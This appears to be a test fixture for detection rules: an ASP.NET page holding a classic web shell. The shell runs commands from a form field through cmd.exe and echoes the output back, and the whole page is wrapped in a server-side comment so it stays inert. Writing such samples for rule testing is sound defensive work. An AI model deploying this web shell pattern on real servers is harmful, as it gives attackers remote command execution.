<%-- exir test sample: inert text in the shape of a web shell, written for rule tests. The server-side comment around it keeps ASP.NET from running any of it.
<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
  var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["exir_cmd"]);
  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
  Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
--%>
